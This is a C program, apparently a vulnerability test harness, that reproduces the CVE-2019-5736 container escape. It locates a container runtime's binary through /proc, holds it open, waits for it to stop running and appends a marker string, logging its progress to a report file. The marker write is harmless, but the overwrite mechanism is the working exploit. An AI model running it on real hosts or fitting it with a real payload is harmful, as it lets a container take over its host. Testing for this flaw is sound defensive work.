/*
 * The attack of CVE-2019-5736, from inside a container: holds a runtime's binary open while
 * the runtime runs, and writes to it when it does not run any more.
 *
 *   overwrite REPORT watch SECONDS OWN   does so to every process whose binary is not OWN
 *   overwrite REPORT held FD             does so to the binary that FD is open on
 *
 * Writes to the file REPORT `held` for each binary, and `wrote` for each that it could write to;
 * in the end `done`.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* Tries for as long as the binary may be running, which is ETXTBSY. */
static void overwrite(int held, double seconds)
{
	char path[64];
	double end = now() + seconds;

	puts("held");
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	do {
		int fd = open(path, O_WRONLY | O_APPEND);
		if (fd >= 0) {
			if (write(fd, "overwritten", 11) == 11)
				puts("wrote");
			close(fd);
			return;
		}
	} while (now() < end);
}

static void watch(double seconds, const char *own)
{
	double end = now() + seconds;

	while (now() < end) {
		for (int pid = 2; pid < 500; pid++) {
			char path[64], binary[4096];
			ssize_t length;
			int held;

			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			length = readlink(path, binary, sizeof binary - 1);
			if (length <= 0)
				continue;
			binary[length] = 0;
			if (!strcmp(binary, own) || (held = open(path, O_RDONLY)) < 0)
				continue;
			overwrite(held, 0.1);
			close(held);
		}
	}
}

int main(int argc, char **argv)
{
	if (argc < 4 || !freopen(argv[1], "a", stdout))
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[2], "held"))
		overwrite(atoi(argv[3]), 0.5);
	else if (argc == 5 && !strcmp(argv[2], "watch"))
		watch(atof(argv[3]), argv[4]);
	else
		return 2;
	puts("done");
	return 0;
}
